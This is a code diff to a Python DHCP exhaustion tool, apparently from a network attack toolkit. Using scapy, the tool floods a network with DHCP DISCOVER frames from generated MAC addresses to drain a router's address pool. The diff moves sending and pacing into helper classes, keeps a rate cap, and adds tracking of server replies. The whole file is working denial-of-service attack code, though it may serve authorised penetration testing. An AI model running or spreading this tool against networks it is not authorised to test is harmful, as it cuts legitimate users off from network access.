@@ -3,15 +3,16 @@ import re
 import threading
 import time
 from collections import deque
-from typing import List, Optional
+from typing import Any, Dict, List, Optional
 
-from scapy.layers.dhcp import BOOTP, DHCP
-from scapy.layers.inet import IP, UDP
-from scapy.layers.l2 import Ether
 from scapy.packet import Packet
-from scapy.sendrecv import sendp
 from scapy.arch import get_if_list
 
+from netarmageddon.core.dhcp_template import DiscoverTemplate, build_discover
+from netarmageddon.core.dhcp_tracker import DHCPResponseTracker
+from netarmageddon.core.l2_sender import L2Sender
+from netarmageddon.core.pacer import Pacer
+
 from netarmageddon.utils.output_manager import (
     HEAD,
     INFO,
@@ -34,7 +35,7 @@ from netarmageddon.utils.output_manager import (
 class DHCPExhaustion:
     """Simulate multiple DHCP clients to exhaust a router's IP pool."""
 
-    MAX_PPS: int = 100  # Class-wide safety limit
+    MAX_PPS: int = L2Sender.MAX_PPS  # Safety limit, enforced by L2Sender
     S_PORT = 68
     D_PORT = 67
 
@@ -44,12 +45,15 @@ class DHCPExhaustion:
         num_devices: int = 50,
         request_options: Optional[List[int]] = None,
         client_src: Optional[List[str]] = None,
+        track_responses: bool = False,
+        response_timeout: float = 3.0,
     ) -> None:
         self.start_time = time.time()
         self.interface = interface
         self.running = False
         self._stopped = False
         self.thread: Optional[threading.Thread] = None
+        self._stop_event = threading.Event()  # ends the wait for late replies at stop()
         self._validate_interface()
 
         if num_devices < 1:
@@ -60,6 +64,12 @@ class DHCPExhaustion:
         self.mac_pool: deque = deque(self.client_src)
         self.sent_macs: set = set()
         self.lock = threading.Lock()
+        self.template = DiscoverTemplate(self.request_options, self.S_PORT, self.D_PORT)
+        self.sender = L2Sender(self.interface)
+        self.pacer: Optional[Pacer] = None
+        self.tracker: Optional[DHCPResponseTracker] = (
+            DHCPResponseTracker(self.interface, response_timeout) if track_responses else None
+        )
 
         DEBUG(f"Initialised with {num_devices} devices")
         HEAD("⚡  DHCP Exhaustion — Configuration")
@@ -70,6 +80,8 @@ class DHCPExhaustion:
         req_preview = self.request_options[:8]
         ellipsis = "..." if len(self.request_options) > 8 else ""
         CMD(f"  {'Request options':<20} {BRIGHT_CYAN}{req_preview}{ellipsis}{RESET}")
+        tracking = f"OFFER/NAK, {response_timeout:g}s timeout" if track_responses else "off"
+        CMD(f"  {'Reply tracking':<20} {BRIGHT_CYAN}{tracking}{RESET}")
         CMD(THIN_DELIM)
 
     def _validate_interface(self) -> None:
@@ -81,10 +93,7 @@ class DHCPExhaustion:
         INFO(f"Interface {BOLD}{BRIGHT_CYAN}{self.interface}{RESET} validated")
 
     def _rate_limit(self, pps: int) -> int:
-        if pps > self.MAX_PPS:
-            WARNING(f"Rate capped: {pps} → {self.MAX_PPS} pps (safety limit)")
-            return self.MAX_PPS
-        return pps
+        return int(L2Sender.rate_limit(pps))
 
     def _validate_macs(self, mac_list: List[str]) -> List[str]:
         DEBUG(f"Validating {len(mac_list)} MAC addresses")
@@ -116,21 +125,13 @@ class DHCPExhaustion:
                 self.sent_macs.add(mac)
                 return mac
 
-    def _create_dhcp_packet(self) -> Packet:
-        mac = self._generate_mac()
-        return (
-            Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
-            / IP(src="0.0.0.0", dst="255.255.255.255")
-            / UDP(sport=self.S_PORT, dport=self.D_PORT)
-            / BOOTP(chaddr=mac)
-            / DHCP(
-                options=[
-                    ("message-type", "discover"),
-                    ("client_id", mac),
-                    ("param_req_list", self.request_options),
-                    "end",
-                ]
-            )
+    def _generate_xid(self) -> int:
+        return random.getrandbits(32)
+
+    def _create_dhcp_packet(self, mac: Optional[str] = None, xid: int = 0) -> Packet:
+        # Reference for the template: DiscoverTemplate.render() produces the same bytes
+        return build_discover(
+            mac or self._generate_mac(), xid, self.request_options, self.S_PORT, self.D_PORT
         )
 
     def _send_loop(self) -> None:
@@ -139,17 +140,25 @@ class DHCPExhaustion:
             sent_count = 0
             self.attack_start = time.time()
             base_pps = max(1, self.num_devices)
-            allowed_pps = self._rate_limit(base_pps)
-            delay = 1.0 / allowed_pps if allowed_pps > 0 else 0
+            self.pacer = Pacer(base_pps)
+            allowed_pps = self.pacer.pps
 
             INFO(
                 f"  Rate: {BOLD}{BRIGHT_YELLOW}{allowed_pps}{RESET} pps  |  "
                 f"ETA: {BOLD}{BRIGHT_WHITE}{self.num_devices / allowed_pps:.1f}s{RESET}"
             )
 
+            if self.tracker:
+                self.tracker.start()
+
             while self.running and sent_count < self.num_devices:
-                pkt = self._create_dhcp_packet()
-                sendp(pkt, iface=self.interface, verbose=False)
+                mac, xid = self._generate_mac(), self._generate_xid()
+                frame = self.template.render(mac, xid)
+                self.pacer.wait()
+                if self.tracker:
+                    # Announced before sending so a fast reply cannot beat it
+                    self.tracker.expect(xid, mac, time.time())
+                self.sender.send(frame)
                 sent_count += 1
                 bar = make_progress_bar(sent_count, self.num_devices)
                 CLEAR()
@@ -158,11 +167,13 @@ class DHCPExhaustion:
                     f"{BRIGHT_CYAN}{sent_count}{RESET}/{BRIGHT_WHITE}{self.num_devices}{RESET}",
                     end="\r",
                 )
-                time.sleep(delay)
 
             if sent_count >= self.num_devices:
                 INFO("")
                 SUCCESS(f"All {self.num_devices} DHCP packets sent — pool exhaustion complete")
+                if self.tracker and self.running:
+                    INFO(f"  Waiting {self.tracker.timeout:g}s for late replies")
+                    self._stop_event.wait(self.tracker.timeout)
                 self.stop()
 
         except Exception as e:
@@ -177,6 +188,7 @@ class DHCPExhaustion:
         if not self.running:
             DEBUG("Spawning attack thread")
             self.running = True
+            self._stop_event.clear()
             self.thread = threading.Thread(target=self._send_loop, name="DHCPExhaustionThread")
             self.thread.start()
 
@@ -185,17 +197,29 @@ class DHCPExhaustion:
             return
         DEBUG("Initiating shutdown")
         self.running = False
+        self._stop_event.set()
         if self.thread and self.thread.is_alive():
             if threading.current_thread() is not self.thread:
                 self.thread.join(timeout=5)
                 if self.thread.is_alive():
                     WARNING("Thread shutdown delayed")
+        self.sender.close()
+        if self.pacer:
+            self.pacer.report()
+        if self.tracker:
+            self.tracker.stop()
+            self.tracker.report()
         if hasattr(self, "start_time"):
             duration = time.time() - self.start_time
             INFO(f"  Total duration: {BOLD}{BRIGHT_WHITE}{duration:.1f}s{RESET}")
             SUCCESS("DHCP attack terminated cleanly")
         self._stopped = True
 
+    def get_response_stats(self) -> Optional[Dict[str, Any]]:
+        """Reply statistics of the run (see DHCPResponseTracker.get_stats), None when
+        reply tracking is off."""
+        return self.tracker.get_stats() if self.tracker else None
+
     def __enter__(self) -> "DHCPExhaustion":
         self.start()
         return self